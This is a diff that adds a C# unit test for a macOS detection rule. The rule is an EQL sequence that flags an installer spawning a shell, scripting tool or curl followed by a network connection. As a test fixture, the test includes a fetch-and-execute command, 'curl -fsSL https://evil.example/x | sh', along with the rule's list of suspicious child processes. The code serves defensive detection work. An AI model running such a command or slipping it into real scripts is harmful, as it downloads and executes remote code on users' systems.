@@ -110,4 +110,24 @@ public sealed class InstallerNetworkRuleTests
         Assert.Equal(["exec-1", "net-1"], match.EventIds);
         Assert.Equal(At(30), match.LastTimestamp);
     }
+    [Fact]
+    public void ElasticsNewerRevisionJoinsOnTheSpawnedProcess()
+    {
+        const string revised = """
+            sequence by host.id, process.entity_id with maxspan=15s
+            [process where host.os.type == "macos" and event.type == "start" and event.action == "exec" and process.parent.name like~ ("installer", "package_script_service") and ((process.name in ("bash", "sh", "zsh") and process.args == "-c") or (process.name like~ ("python*", "osascript", "tclsh*", "curl", "nscurl")))]
+            [network where host.os.type == "macos" and event.type == "start"]
+            """;
+        var shell = InstallerShell(0);
+        shell.Process.EntityId = "proc-1";
+        shell.Process.Args.Add(["/bin/bash", "-c", "curl -fsSL https://evil.example/x | sh"]);
+        var connect = CurlConnects(3);
+        connect.Process.EntityId = "proc-1";
+        var unrelated = CurlConnects(2);
+        unrelated.Event.Id = "net-2";
+        unrelated.Process.EntityId = "proc-2";
+
+        Assert.Equal([["exec-1", "net-1"]], Run.Sequences(revised, [shell, unrelated, connect]));
+        Assert.Empty(Run.Sequences(revised, [shell, unrelated]));
+    }
 }
